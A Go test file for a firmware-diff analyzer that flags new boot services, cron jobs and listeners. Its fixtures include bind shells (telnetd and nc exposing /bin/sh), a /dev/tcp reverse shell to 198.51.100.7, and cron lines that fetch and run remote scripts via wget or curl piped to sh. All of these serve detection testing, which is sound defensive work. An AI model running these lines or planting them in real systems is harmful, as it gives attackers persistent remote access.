package analyze

import (
	"reflect"
	"testing"

	"github.com/fwvet/fwvet/pipeline"
)

func TestServices(t *testing.T) {
	const initHead = "#!/bin/sh /etc/rc.common\nSTART=50\n\nstart() {\n\t/usr/sbin/crond -c /etc/crontabs\n}\n"
	const inittab = "::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\nttyS0::askfirst:/usr/libexec/login.sh\n"
	const rcLocal = "# Put your custom commands here\n\nexit 0\n"
	const crontab = "0 3 * * * /sbin/logrotate /etc/logrotate.conf\n"
	const helper = "#!/bin/sh\n# collect diagnostics\nlogread > /tmp/diag.log\n"
	mod := func(p, old, cur string) *pipeline.Change {
		return changed(fileEntry(p, old, 0o755), fileEntry(p, cur, 0o755), "content")
	}

	type want struct {
		msg       []string       // substrings of the message
		kind      string         // evidence kind
		lineKind  string         // evidence line_kind, "" for none
		newLines  []string       // evidence new_lines, when set
		replaces  string         // evidence replaces, when set
		linkTgt   string         // evidence link_target of a start link
		noNewLine bool           // a start link: no new_lines
		ev        map[string]any // further evidence
	}
	tests := []struct {
		name string
		ch   *pipeline.Change
		want *want
	}{
		{
			name: "new init script with a listener",
			ch:   added(fileEntry("/etc/init.d/S55factory-diag", "#!/bin/sh\n# factory diagnostics\ntelnetd -l /bin/sh -p 2323 &\n", 0o755)),
			want: &want{msg: []string{"new listener in init script", "telnetd -l /bin/sh -p 2323 &"}, kind: "init script", lineKind: "listener",
				newLines: []string{"telnetd -l /bin/sh -p 2323 &"}},
		},
		{
			name: "new init script that only starts a daemon",
			ch:   added(fileEntry("/etc/init.d/watchdog", "#!/bin/sh\nstart-stop-daemon -S -x /sbin/watchdog\n", 0o755)),
			want: &want{msg: []string{"new init script: start-stop-daemon -S -x /sbin/watchdog"}, kind: "init script", lineKind: "daemon"},
		},
		{
			name: "new OpenWrt procd script",
			ch: added(fileEntry("/etc/init.d/agent", "#!/bin/sh /etc/rc.common\nUSE_PROCD=1\nstart_service() {\n"+
				"\tprocd_open_instance\n\tprocd_set_param command /usr/bin/agent\n\tprocd_close_instance\n}\n", 0o755)),
			want: &want{msg: []string{"new init script", "procd_set_param command /usr/bin/agent"}, kind: "init script", lineKind: "daemon"},
		},
		{
			name: "new rc link",
			ch:   added(symlinkEntry("/etc/rc.d/S99x", "../init.d/x")),
			want: &want{msg: []string{"enabled at boot", "/etc/rc.d/S99x → ../init.d/x"}, kind: "start link", linkTgt: "../init.d/x", noNewLine: true},
		},
		{
			name: "new SysV rc2.d link",
			ch:   added(symlinkEntry("/etc/rc2.d/S20backdoor", "../init.d/backdoor")),
			want: &want{msg: []string{"enabled at boot"}, kind: "start link", linkTgt: "../init.d/backdoor", noNewLine: true},
		},
		{
			name: "new systemd unit",
			ch: added(fileEntry("/etc/systemd/system/updater.service",
				"[Unit]\nDescription=Updater\n\n[Service]\nExecStart=/usr/bin/updater --daemon\n\n[Install]\nWantedBy=multi-user.target\n", 0o644)),
			want: &want{msg: []string{"new systemd unit: ExecStart=/usr/bin/updater --daemon"}, kind: "systemd unit", lineKind: "daemon"},
		},
		{
			name: "new systemd socket unit listening",
			ch:   added(fileEntry("/lib/systemd/system/shell.socket", "[Socket]\nListenStream=4444\nAccept=yes\n", 0o644)),
			want: &want{msg: []string{"new listener in systemd unit: ListenStream=4444"}, kind: "systemd unit", lineKind: "listener"},
		},
		{
			name: "systemd .wants link",
			ch: added(symlinkEntry("/etc/systemd/system/multi-user.target.wants/updater.service",
				"/etc/systemd/system/updater.service")),
			want: &want{msg: []string{"enabled at boot", "multi-user.target.wants/updater.service"}, kind: "start link",
				linkTgt: "/etc/systemd/system/updater.service", noNewLine: true},
		},
		{
			name: "systemd .requires link outside the unit directories",
			ch:   added(symlinkEntry("/run/systemd/generator/local-fs.target.requires/x.mount", "../x.mount")),
			want: &want{msg: []string{"enabled at boot"}, kind: "start link", linkTgt: "../x.mount", noNewLine: true},
		},
		{
			name: "inittab gains a respawn line",
			ch:   mod("/etc/inittab", inittab, inittab+"::respawn:/bin/sh\n"),
			want: &want{msg: []string{"inittab gains 1 line: ::respawn:/bin/sh"}, kind: "inittab", lineKind: "daemon",
				newLines: []string{"::respawn:/bin/sh"}},
		},
		{
			name: "rc.local gains a line",
			ch:   mod("/etc/rc.local", rcLocal, "# Put your custom commands here\n\necho 1 > /proc/sys/net/ipv4/ip_forward\nexit 0\n"),
			want: &want{msg: []string{"rc.local gains 1 line: echo 1 > /proc/sys/net/ipv4/ip_forward"}, kind: "rc.local",
				newLines: []string{"echo 1 > /proc/sys/net/ipv4/ip_forward"}},
		},
		{
			name: "crontab gains a wget line",
			ch:   mod("/etc/crontabs/root", crontab, crontab+"*/5 * * * * wget -q -O /tmp/u http://198.51.100.7/u && sh /tmp/u\n"),
			want: &want{msg: []string{"new periodic fetch: */5 * * * * wget -q -O /tmp/u"}, kind: "crontab", lineKind: "fetch"},
		},
		{
			name: "new cron.d file with curl",
			ch:   added(fileEntry("/etc/cron.d/sync", "@hourly root curl -fsS https://sync.example.com/p | sh\n", 0o644)),
			want: &want{msg: []string{"new periodic fetch: @hourly root curl"}, kind: "crontab", lineKind: "fetch"},
		},
		{
			name: "inetd gains a telnet service",
			ch: mod("/etc/inetd.conf", "ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd\n",
				"ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd\ntelnet stream tcp nowait root /usr/sbin/telnetd telnetd -l /bin/sh\n"),
			want: &want{msg: []string{"new listener in inetd service"}, kind: "inetd service", lineKind: "listener"},
		},
		{
			name: "modified init script: listener with the same command changes",
			ch: mod("/etc/init.d/telnet", "#!/bin/sh\ntelnetd -l /bin/login -p 23 &\n",
				"#!/bin/sh\ntelnetd -l /bin/sh -p 2323 &\n"),
			want: &want{msg: []string{"listener changed in init script: telnetd -l /bin/sh -p 2323 & (was: telnetd -l /bin/login -p 23 &)"},
				kind: "init script", lineKind: "listener", replaces: "telnetd -l /bin/login -p 23 &"},
		},
		{
			name: "modified init script: a listener where there was none",
			ch:   mod("/etc/init.d/cron", initHead, initHead+"telnetd -p 2323 -l /bin/sh\n"),
			want: &want{msg: []string{"new listener in init script: telnetd -p 2323 -l /bin/sh"}, kind: "init script", lineKind: "listener"},
		},
		{
			name: "script outside service locations gains a bind shell",
			ch:   mod("/usr/bin/diag.sh", helper, helper+"nc -l -p 4444 -e /bin/sh\n"),
			want: &want{msg: []string{"new listener in script: nc -l -p 4444 -e /bin/sh"}, kind: "script", lineKind: "listener",
				newLines: []string{"nc -l -p 4444 -e /bin/sh"}},
		},
		{
			name: "script outside service locations gains a fetch",
			ch:   mod("/usr/libexec/update.sh", helper, helper+"tftp -g -r fw.bin 198.51.100.7\n"),
			want: &want{msg: []string{"new fetch in script: tftp -g -r fw.bin 198.51.100.7"}, kind: "script", lineKind: "fetch"},
		},
		{
			name: "new script outside service locations with a reverse shell",
			ch:   added(fileEntry("/www/cgi-bin/x", "#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n", 0o755)),
			want: &want{msg: []string{"new listener in script"}, kind: "script", lineKind: "listener"},
		},
		// Nothing to report.
		{name: "script outside service locations gains a harmless line", ch: mod("/usr/bin/diag.sh", helper, helper+"echo hi\n")},
		{name: "script outside service locations gains a daemon line", ch: mod("/usr/bin/diag.sh", helper, helper+"/usr/bin/agent &\n")},
		{name: "text file that is not a script gains a listener", ch: mod("/usr/share/diag/notes.txt", "notes\n", "notes\nnc -l -p 4444\n")},
		{name: "init script gains only comments and blank lines", ch: mod("/etc/init.d/cron", initHead, initHead+"\n# telnetd -l /bin/sh -p 2323 &\n\n   \n#nc -l -p 4444\n")},
		{name: "init script reindented", ch: mod("/etc/init.d/cron", initHead, "#!/bin/sh /etc/rc.common\nSTART=50\nstart() {\n  /usr/sbin/crond   -c /etc/crontabs\n}\n")},
		{name: "init script loses a line", ch: mod("/etc/init.d/cron", initHead+"telnetd -p 23\n", initHead)},
		{name: "binary file in /etc/init.d", ch: added(fileEntry("/etc/init.d/blob", "\x7fELF\x02\x01\x01\x00telnetd -l /bin/sh -p 2323 &\n", 0o755))},
		{name: "NUL bytes in an init script", ch: mod("/etc/init.d/cron", initHead, initHead+"telnetd -l /bin/sh\x00\n")},
		{name: "metadata-only change of an init script", ch: changed(fileEntry("/etc/init.d/telnet", "#!/bin/sh\ntelnetd -l /bin/sh &\n", 0o644),
			fileEntry("/etc/init.d/telnet", "#!/bin/sh\ntelnetd -l /bin/sh &\n", 0o755), "mode")},
		{name: "removed init script", ch: removed(fileEntry("/etc/init.d/telnet", "#!/bin/sh\ntelnetd -l /bin/sh &\n", 0o755))},
		{name: "symlink that is no start link", ch: added(symlinkEntry("/usr/bin/telnetd", "busybox"))},
		{name: "new init directory", ch: added(dirEntry("/etc/init.d", 0o755))},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := analyzeWith(t, Services{}, scanned(t, tt.ch))
			if tt.want == nil {
				none(t, got)
				return
			}
			f := only(t, got, pipeline.IDServiceAdded, pipeline.SeverityHigh, tt.ch)
			contains(t, "message", f.Message, tt.want.msg...)
			w := tt.want
			if f.Evidence["kind"] != w.kind {
				t.Errorf("evidence kind = %v, want %q", f.Evidence["kind"], w.kind)
			}
			if lk, ok := f.Evidence["line_kind"]; w.lineKind == "" && ok || w.lineKind != "" && lk != w.lineKind {
				t.Errorf("evidence line_kind = %v, want %q", lk, w.lineKind)
			}
			if w.newLines != nil && !reflect.DeepEqual(f.Evidence["new_lines"], w.newLines) {
				t.Errorf("evidence new_lines = %#v, want %#v", f.Evidence["new_lines"], w.newLines)
			}
			if w.noNewLine {
				if _, ok := f.Evidence["new_lines"]; ok {
					t.Errorf("a start link has new_lines: %v", f.Evidence["new_lines"])
				}
			} else if _, ok := f.Evidence["new_lines"].([]string); !ok {
				t.Errorf("evidence new_lines = %#v, want a list", f.Evidence["new_lines"])
			}
			if rep, ok := f.Evidence["replaces"]; w.replaces == "" && ok || w.replaces != "" && rep != w.replaces {
				t.Errorf("evidence replaces = %v, want %q", rep, w.replaces)
			}
			if w.linkTgt != "" && f.Evidence["link_target"] != w.linkTgt {
				t.Errorf("evidence link_target = %v, want %q", f.Evidence["link_target"], w.linkTgt)
			}
			for k, v := range w.ev {
				if !reflect.DeepEqual(f.Evidence[k], v) {
					t.Errorf("evidence %s = %#v, want %#v", k, f.Evidence[k], v)
				}
			}
		})
	}
}

// TestServicesNewLinesCapped: a new service definition shows at most 20
// lines, with a note of how many more there are.
func TestServicesNewLinesCapped(t *testing.T) {
	var b []byte
	b = append(b, "#!/bin/sh\n"...)
	for i := range 25 {
		b = append(b, "logger step"...)
		b = append(b, byte('a'+i))
		b = append(b, '\n')
	}
	ch := added(fileEntry("/etc/init.d/long", string(b), 0o755))
	f := only(t, analyzeWith(t, Services{}, scanned(t, ch)), pipeline.IDServiceAdded, pipeline.SeverityHigh, ch)
	lines, _ := f.Evidence["new_lines"].([]string)
	if len(lines) != 21 || lines[0] != "logger stepa" || lines[20] != "… and 5 more" {
		t.Errorf("new_lines = %q, want the first 20 and \"… and 5 more\"", lines)
	}
	contains(t, "message", f.Message, "new init script")
}

// TestServicesWithoutScan: the service locations do not depend on the
// shared pass; a script outside them does (its magic decides).
func TestServicesWithoutScan(t *testing.T) {
	inScript := changed(fileEntry("/usr/bin/diag.sh", "#!/bin/sh\n", 0o755), fileEntry("/usr/bin/diag.sh", "#!/bin/sh\nnc -l -p 4444\n", 0o755), "content")
	inInit := added(fileEntry("/etc/init.d/telnet", "#!/bin/sh\ntelnetd -l /bin/sh\n", 0o755))
	got := analyzeWith(t, Services{}, input(inScript, inInit))
	only(t, got, pipeline.IDServiceAdded, pipeline.SeverityHigh, inInit)
}

// TestServicesBusyboxAppletBecomesListener: a line that runs busybox telnetd
// replacing a line that ran another busybox applet is a new listener, not a
// changed one: the line it replaces opened nothing.
func TestServicesBusyboxAppletBecomesListener(t *testing.T) {
	const head = "#!/bin/sh\nstart() {\n"
	ch := changed(fileEntry("/etc/init.d/rcS", head+"busybox crond -c /etc/crontabs\n}\n", 0o755),
		fileEntry("/etc/init.d/rcS", head+"busybox telnetd -l /bin/sh -p 2323\n}\n", 0o755), "content")
	f := only(t, analyzeWith(t, Services{}, scanned(t, ch)), pipeline.IDServiceAdded, pipeline.SeverityHigh, ch)
	contains(t, "message", f.Message, "new listener in init script: busybox telnetd -l /bin/sh -p 2323")
	if rep, ok := f.Evidence["replaces"]; ok {
		t.Errorf("evidence replaces = %q: the old line was no listener", rep)
	}
}

// TestServicesRetargetedStartLink: an rc link pointed at another script
// starts that script at boot. The diff stage reports a symlink whose
// target changed as a metadata change (fields ["link_target"]), which is
// what serviceChange's start-link branch looks for with
// ch.HasField("link_target").
func TestServicesRetargetedStartLink(t *testing.T) {
	ch := changed(symlinkEntry("/etc/rc.d/S50cron", "../init.d/cron"), symlinkEntry("/etc/rc.d/S50cron", "../init.d/backdoor"), "link_target")
	if ch.Kind != pipeline.ChangeMetadata {
		t.Fatalf("change kind %s, want metadata as diff makes it", ch.Kind)
	}
	f := only(t, analyzeWith(t, Services{}, scanned(t, ch)), pipeline.IDServiceAdded, pipeline.SeverityHigh, ch)
	contains(t, "message", f.Message, "enabled at boot: /etc/rc.d/S50cron → ../init.d/backdoor")
	if f.Evidence["link_target"] != "../init.d/backdoor" {
		t.Errorf("evidence link_target = %v", f.Evidence["link_target"])
	}
}

// TestServicesRcLocalUnderRcD: /etc/rc.d/rc.local is listed as an rc.local
// (serviceKinds), but the "rc link" pattern /etc/rc.d/* comes first and
// claims it, so the rc.local entry for it is never reached.
func TestServicesRcLocalUnderRcD(t *testing.T) {
	ch := changed(fileEntry("/etc/rc.d/rc.local", "exit 0\n", 0o755), fileEntry("/etc/rc.d/rc.local", "touch /tmp/x\nexit 0\n", 0o755), "content")
	f := only(t, analyzeWith(t, Services{}, scanned(t, ch)), pipeline.IDServiceAdded, pipeline.SeverityHigh, ch)
	if f.Evidence["kind"] != "rc.local" {
		t.Errorf("evidence kind = %v, want rc.local (message %q)", f.Evidence["kind"], f.Message)
	}
}
